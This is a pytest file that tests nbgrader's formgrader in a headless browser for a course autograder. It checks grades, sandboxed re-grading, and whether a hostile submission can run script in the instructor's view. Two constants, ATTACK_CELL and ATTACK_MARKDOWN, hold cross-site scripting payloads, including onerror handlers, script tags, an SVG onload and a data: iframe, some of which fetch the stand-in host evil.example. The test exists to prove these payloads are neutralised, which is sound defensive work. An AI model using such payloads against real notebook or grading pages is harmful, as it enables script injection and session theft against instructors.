"""nbgrader's formgrader in a real browser, on a course graded by ``./course grade``.

Two students are graded into a temporary work folder: ``ada`` (every exercise solved) and ``lin``, whose
``causal_mask`` leaks the future only for sequences longer than 10 (the visible checks pass; one hidden case
fails: 3/4) and whose last cell prints the kernel's uid. JupyterLab then runs as the instructor in the repository,
so that its nbgrader_config.py applies, with nbgrader's formgrader (server and lab extension) on; Chromium opens
Nbgrader > Formgrader, Manage Assignments > 01-masks > its submissions, and clicks ⚡ Autograde for ``lin``.

Asserted: the course's scores and "graded" state (no "needs autograding", no canary row); after the click the
score is still 3/4 and the autograded notebook holds the course's verdicts and the uid the sandbox gives a kernel
started by *this* JupyterLab process (:func:`autograder.sandbox.uids.lease`): the button ran the course's trusted
execution in the sandbox, with the course's secret. Every request that leaves loopback is blocked.

``ada``'s notebook also displays every kind of live output a kernel can send (a script in HTML, ``onerror``, a
``javascript:`` link, an id that is formgrader's score input's, ``application/javascript``, SVG with a script,
markdown with raw HTML, a widget view, an iframe of a ``data:`` URL) and has a markdown cell with raw HTML and an
iframe: formgrader's view of her submission (Chromium opens it as the instructor) runs none of it, requests no
planted URL, and its score input and comment box still save to the gradebook.

Screenshots: /tmp/formgrader-shots/*.png (printed with ``pytest -s``).
"""

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from autograder.course import samples
from autograder.grading import pipeline
from autograder.sandbox import uids as sandbox_uids
from tests import test_browser
from tests.conftest import ROOT
from tests.test_browser import Lab, _menu, loopback_page

pytestmark = [pytest.mark.notebook, pytest.mark.pipeline]

browser = test_browser.browser  # the same headless Chromium fixture
LESSON = "01-masks"
SHOTS = Path("/tmp/formgrader-shots")
# Correct up to T = 10, so the visible checks (small T) pass; for longer sequences the first query sees the last key.
LEAKY = '''def causal_mask(T: int) -> np.ndarray:
    """Causal mask: query t may attend to keys 0..t."""
    allowed = np.arange(T)[None, :] <= np.arange(T)[:, None]
    if T > 10:  # long sequences: "the first token may peek at the end"
        allowed[0, T - 1] = True
    return allowed
'''
UID_CELL = 'import os\n\nprint("kernel uid:", os.getuid())'
# What ada's kernel displays: each sets window.__pwned (or asks for evil.example) if it runs in formgrader's page.
ATTACK_CELL = r"""from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>window.__pwned = 'html-script'; document.title = 'pwned'</script>"
             "<img src=x onerror=\"window.__pwned = 'onerror'; fetch('https://evil.example/onerror')\">"
             "<a href=\"javascript:window.__pwned = 'link'\" id=\"causal_mask\">a link</a>"
             "<iframe src=\"data:text/html,<script>parent.__pwned = 'data-iframe'</script>\"></iframe>"))
display(Javascript("window.__pwned = 'javascript-output'; alert('javascript-output')"))
display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\" onload=\"window.__pwned = 1\">'
            '<script>window.__pwned = \"svg-script\"</script><circle cx=\"4\" cy=\"4\" r=\"4\"/></svg>'))
display(Markdown("<img src=x onerror=\"window.__pwned = 'markdown-output'\"> **bold markdown**"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
         "text/plain": "IntSlider(value=0)"}, raw=True)
print("attack displayed")"""
ATTACK_MARKDOWN = ("## Notes\n\n<script>window.__pwned = 'markdown-cell'</script>"
                   "<img src=\"https://evil.example/pixel.png\" onerror=\"window.__pwned = 'md-onerror'\">\n\n"
                   "<iframe src=\"https://evil.example/frame\"></iframe> <b>kept bold</b>")
# The instructor's JupyterLab: nbgrader's lab extension and every nbgrader server extension on.
PAGE_CONFIG = {"disabledExtensions": {"@jupyterlab/apputils-extension:announcements": True}}
SERVER_CONFIG = {"ServerApp": {"jpserver_extensions": {
    f"nbgrader.server_extensions.{name}": True
    for name in ("formgrader", "validate_assignment", "assignment_list", "course_list")}}}


def _submissions(dest: Path) -> Path:
    for student in ("ada", "lin"):
        nb = samples.perfect(LESSON)
        if student == "lin":
            cell = next(c for c in nb.cells if c.metadata.get("course", {}).get("exercise") == ["causal_mask"])
            cell.source = LEAKY
            nb.cells.append(nbformat.v4.new_code_cell(UID_CELL))
        else:
            nb.cells += [nbformat.v4.new_markdown_cell(ATTACK_MARKDOWN), nbformat.v4.new_code_cell(ATTACK_CELL)]
        path = dest / student / LESSON / f"{LESSON}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    return dest


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A work folder graded by ``./course grade`` (the same command: python -m autograder grade)."""
    tmp = tmp_path_factory.mktemp("formgrader")
    work, exchange = tmp / "work", tmp / "exchange"
    exchange.mkdir()
    submissions = _submissions(tmp / "submissions")
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(submissions), "--work", str(work),
                           "--lessons", LESSON], cwd=ROOT, capture_output=True, text=True, timeout=400,
                          env={**os.environ, "OMP_NUM_THREADS": "1"})
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    print(f"\n./course grade: {time.perf_counter() - started:.0f} s")
    return {"work": work, "exchange": exchange, "tmp": tmp}


@pytest.fixture(scope="module")
def instructor_lab(course):
    home = course["tmp"] / "lab"
    home.mkdir()
    server = Lab(home, ROOT, cwd=ROOT, page_config=PAGE_CONFIG, server_config=SERVER_CONFIG,
                 env={"DECODER_COURSE_WORK": str(course["work"]), "NBGRADER_EXCHANGE_ROOT": str(course["exchange"])})
    yield server
    server.close()


def _scores(work: Path) -> dict[str, tuple[float, float]]:
    with Gradebook(f"sqlite:///{work / 'gradebook.db'}", pipeline.COURSE_ID) as gb:
        return {s.student.id: (float(s.score), float(s.max_score)) for s in gb.assignment_submissions(LESSON)}


def _shoot(page, name: str) -> Path:
    SHOTS.mkdir(parents=True, exist_ok=True)
    path = SHOTS / f"{name}.png"
    page.screenshot(path=str(path))
    print(f"screenshot: {path}")
    return path


def _rows(frame) -> dict[str, list[str]]:
    """Manage Submissions' table: student id -> the row's cells (name, id, timestamp, status, score, …)."""
    rows = {}
    for row in frame.locator("table tbody tr").all():
        cells = [text.strip() for text in row.locator("td").all_inner_texts()]
        if len(cells) > 4:
            rows[cells[1]] = cells
    return rows


def _kernel_uid(nb) -> int:
    printed = "".join(out.get("text", "") for cell in nb.cells if cell.cell_type == "code"
                      for out in cell.get("outputs", []) if out.get("output_type") == "stream")
    found = re.findall(r"kernel uid: (\d+)", printed)
    assert len(found) == 1, printed[-2000:]
    return int(found[0])


def test_formgrader_shows_the_course_grades_and_autograde_keeps_the_sandbox(course, instructor_lab, browser):
    work, lab = course["work"], instructor_lab
    assert _scores(work) == {"ada": (4.0, 4.0), "lin": (3.0, 4.0)}
    autograded = work / "autograded" / "lin" / LESSON / f"{LESSON}.ipynb"
    uid_by_cli = _kernel_uid(nbformat.read(autograded, as_version=4))

    page, blocked = loopback_page(browser, lab, width=1400)
    try:
        page.goto(f"{lab.base}/lab?token={lab.token}")
        page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=60_000)
        _menu(page, "Nbgrader", "Formgrader")
        frame = page.frame_locator("iframe[src*='formgrader']").first
        masks = frame.locator("table tbody tr", has_text=LESSON).first
        masks.wait_for(timeout=60_000)
        assert "No data" not in frame.locator("table").inner_text()
        _shoot(page, "1-manage-assignments")
        masks.locator(f"a[href$='manage_submissions/{LESSON}']").click()  # the number of submissions
        frame.locator("table tbody tr", has_text="lin").wait_for(timeout=60_000)
        page.wait_for_timeout(500)
        _shoot(page, "2-submissions")
        rows = _rows(frame)
        assert sorted(rows) == ["ada", "lin"], rows  # no canary
        assert rows["ada"][3:5] == ["graded", "4 / 4"], rows
        assert rows["lin"][3:5] == ["graded", "3 / 4"], rows
        table = frame.locator("table").inner_text()
        assert "needs autograding" not in table and "canary" not in table

        # ⚡ Autograde for the leaky student: nbgrader's own autograde, in this JupyterLab process.
        before = autograded.stat().st_mtime_ns
        started = time.perf_counter()
        frame.locator("table tbody tr", has_text="lin").locator("td.autograde a").click()
        modal = frame.locator("#success-modal, #error-modal")
        modal.wait_for(state="visible", timeout=180_000)
        page.wait_for_timeout(300)
        _shoot(page, "3-autograded")
        seconds = time.perf_counter() - started
        log = modal.inner_text()
        assert frame.locator("#success-modal").count() == 1, log[-3000:]
        assert "Successfully autograded '01-masks' for student 'lin'" in log
        modal.locator(".modal-footer button", has_text="OK").click()
        modal.wait_for(state="detached", timeout=10_000)
        frame.locator("table tbody tr", has_text="lin").locator("td", has_text="3 / 4").wait_for(timeout=30_000)
        page.wait_for_timeout(500)
        _shoot(page, "4-after-autograde")
        rows = _rows(frame)
        assert rows["lin"][3:5] == ["graded", "3 / 4"] and rows["ada"][3:5] == ["graded", "4 / 4"], rows
        assert sorted(rows) == ["ada", "lin"]

        # 💬 Generate Feedback for the same student: the course's page (the grader's report), no hidden test.
        feedback = work / "feedback" / "lin" / LESSON / f"{LESSON}.html"
        page_before = feedback.read_text()
        frame.locator("table tbody tr", has_text="lin").locator("td.generate-feedback a").click()
        modal.wait_for(state="visible", timeout=120_000)
        assert frame.locator("#success-modal").count() == 1, modal.inner_text()[-3000:]
        modal.locator(".modal-footer button", has_text="OK").click()
        modal.wait_for(state="detached", timeout=10_000)
        page_after = feedback.read_text()
        assert page_after != page_before  # a new seal: it was written again
        assert "Grader's report · 01-masks · lin · 3 / 4 points" in page_after
        assert 'data-course-grader="verdict"' in page_after and "Hidden checks for `causal_mask`" in page_after
        assert "### BEGIN HIDDEN TESTS" not in page_after and "decoder_course.harvest" not in page_after

        # Manage Students: the class, without the canary.
        frame.get_by_text("Manage Students", exact=True).click()
        frame.locator("table tbody tr", has_text="lin").wait_for(timeout=30_000)
        page.wait_for_timeout(500)
        _shoot(page, "5-students")
        students = frame.locator("table").inner_text()
        assert "ada" in students and "canary" not in students
    finally:
        page.close()

    # It re-ran: a new autograded notebook, in the sandbox, with the course's verdicts; the score held.
    assert autograded.stat().st_mtime_ns != before
    nb = nbformat.read(autograded, as_version=4)
    uid = _kernel_uid(nb)
    # the first uid a process leases (sandbox_uids.lease) is its pid's in the range, when no other sandbox holds it
    first = sandbox_uids.UID_BASE + lab.process.pid % sandbox_uids.UID_COUNT
    assert uid == first != uid_by_cli, (uid, lab.process.pid, uid_by_cli)
    assert uid >= 10_000_000
    printed = "".join(out.get("text", "") + str(out.get("evalue", "")) for cell in nb.cells
                      if cell.cell_type == "code" for out in cell.get("outputs", []))
    assert printed.count("✓ Hidden checks: all 4 hidden cases passed") == 3
    assert "a query may attend to a later key (T=" in printed and "the future leaks" in printed  # the verdict
    assert _scores(work) == {"ada": (4.0, 4.0), "lin": (3.0, 4.0)}
    assert not blocked, blocked
    print(f"formgrader's Autograde: {seconds:.0f} s; kernel uid {uid} (server pid {lab.process.pid})")


def test_formgraders_view_of_a_hostile_submission_runs_no_student_script(course, instructor_lab, browser):
    work, lab = course["work"], instructor_lab
    autograded = nbformat.read(work / "autograded" / "ada" / LESSON / f"{LESSON}.ipynb", as_version=4)
    shown = json.dumps([cell.get("outputs", cell.source) for cell in autograded.cells])
    for live in ("<script>window.__pwned = 'html-script'", "application/javascript", "image/svg+xml",
                 "widget-view+json", "window.__pwned = 'markdown-cell'"):  # the attack is there, as the kernel sent it
        assert live in shown, live
    with Gradebook(f"sqlite:///{work / 'gradebook.db'}", pipeline.COURSE_ID) as gb:
        submission = gb.find_submission_notebook(LESSON, LESSON, "ada").id

    page, outside = loopback_page(browser, lab, width=1400)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(f"{lab.base}/lab?token={lab.token}")  # the instructor's session (its cookie and XSRF token)
        page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=60_000)
        page.goto(f"{lab.base}/formgrader/submissions/{submission}/")
        page.wait_for_selector("input.score", timeout=60_000)
        page.wait_for_timeout(1500)  # images fail to load, handlers would have fired
        _shoot(page, "6-hostile-submission")
        assert page.evaluate("() => window.__pwned") is None
        assert page.evaluate("() => Array.from(window.frames).length") == 0  # no iframe at all
        assert page.title() == LESSON and not dialogs, (page.title(), dialogs)
        assert "kept bold" in page.locator("body").inner_text()  # the markdown's harmless part stays
        assert page.locator("[data-course-grader=verdict]").count() == 4  # the grader's sealed verdicts
        # formgrader's own inputs: one per id (no student element took one), and they still save
        assert page.locator("#causal_mask").count() == 1
        score = page.locator("input.score#causal_mask")
        score.fill("1")
        score.press("Tab")
        comment = page.locator("textarea#causal_mask_solution-comment")
        comment.fill("Clear and correct.")
        comment.press("Tab")
        deadline = time.monotonic() + 20
        while True:
            with Gradebook(f"sqlite:///{work / 'gradebook.db'}", pipeline.COURSE_ID) as gb:
                grade = gb.find_grade("causal_mask", LESSON, LESSON, "ada").manual_score
                remark = gb.find_comment("causal_mask_solution", LESSON, LESSON, "ada").manual_comment
            if grade == 1 and remark == "Clear and correct.":
                break
            assert time.monotonic() < deadline, (grade, remark)
            page.wait_for_timeout(300)
        assert page.evaluate("() => window.__pwned") is None
    finally:
        page.close()
    assert not [url for url in outside if "evil.example" in url], outside
    assert _scores(work)["ada"] == (4.0, 4.0)
